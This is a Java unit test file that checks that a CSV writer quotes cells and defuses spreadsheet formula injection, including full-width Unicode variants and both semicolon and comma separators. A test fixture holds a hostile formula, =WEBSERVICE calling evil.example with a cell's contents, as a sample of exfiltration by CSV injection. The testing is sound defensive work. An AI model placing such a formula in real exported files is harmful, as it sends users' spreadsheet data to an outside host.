package org.policymonitor.alert.search;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.policymonitor.events.Evidence;
import org.policymonitor.events.Tag;

import java.io.StringWriter;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

class CsvWriterTest {

    static Stream<Arguments> cells() {
        return Stream.of(
                Arguments.of("plain", "\"plain\""),
                Arguments.of("a,b", "\"a,b\""),
                Arguments.of("say \"hi\"", "\"say \"\"hi\"\"\""),
                Arguments.of("two\nlines", "\"two\nlines\""),
                // spreadsheet formulas are defused
                Arguments.of("=1+1", "\"'=1+1\""),
                Arguments.of("@SUM(A1)", "\"'@SUM(A1)\""),
                Arguments.of("-2", "\"'-2\""),
                Arguments.of("\tx", "\"'\tx\""),
                // their full-width (CJK input methods) and small forms, which spreadsheets read as the ASCII ones
                Arguments.of("\uFF1D1+1", "\"'\uFF1D1+1\""),
                Arguments.of("\uFF0B1", "\"'\uFF0B1\""),
                Arguments.of("\uFF0D2", "\"'\uFF0D2\""),
                Arguments.of("\uFF20SUM(A1)", "\"'\uFF20SUM(A1)\""),
                Arguments.of("\uFE66cmd", "\"'\uFE66cmd\""),
                Arguments.of("\uFF21", "\"\uFF21\""));
    }

    @ParameterizedTest
    @MethodSource("cells")
    void quotesEveryCellAndDefusesSpreadsheetFormulas(String value, String cell) {
        assertThat(CsvWriter.cell(value)).isEqualTo(cell);
    }

    /**
     * A spreadsheet in a locale whose list separator is ';' (ru-BY, be-BY) splits on ';', one in an English locale on
     * ','. Whichever it uses, no cell may begin with a formula character.
     */
    @Test
    void noCellIsAFormulaWhetherTheFileIsOpenedWithSemicolonsOrCommas() throws Exception {
        String hostile = "Report;=WEBSERVICE(\"http://evil.example/?\"&A1),+1;@SUM(A1);-3,\t=1;\r=2";
        ItemRow row = new ItemRow("id-1", "src;=1", hostile, hostile, "https://example.org/a;=b", hostile,
                "en;=1", OffsetDateTime.parse("2026-01-01T10:00:00+03:00"), Instant.parse("2026-01-01T07:00:00Z"),
                List.of("ai-law", "=x"), List.of(new Tag("ai-law", List.of("r"), List.of(new Evidence("title", hostile, 0, 1, "r")))),
                "sha256:1;=2", Instant.now(), "new;=3", "story;=4", List.of(), "edited", 2, Instant.now());
        StringWriter out = new StringWriter();
        CsvWriter csv = new CsvWriter(out);
        csv.header();
        csv.row(row);
        for (char separator : new char[]{';', ','}) {
            List<List<String>> records = parse(out.toString(), separator);
            assertThat(records).hasSize(2);
            for (String field : records.get(1)) {
                assertThat(field).as("a field read with separator '%s'", separator)
                        .doesNotMatch("(?s)^[=+\\-@\t\r].*");
            }
        }
        assertThat(parse(out.toString(), ',').get(1)).hasSize(CsvWriter.HEADER.size()).contains(hostile, "ai-law;=x");
    }

    /** RFC 4180 reading as spreadsheets do: quotes group, "" is a quote, the separator and CRLF split. */
    static List<List<String>> parse(String text, char separator) {
        List<List<String>> records = new ArrayList<>();
        List<String> fields = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == separator) {
                fields.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                fields.add(field.toString());
                field.setLength(0);
                records.add(fields);
                fields = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        return records;
    }
}
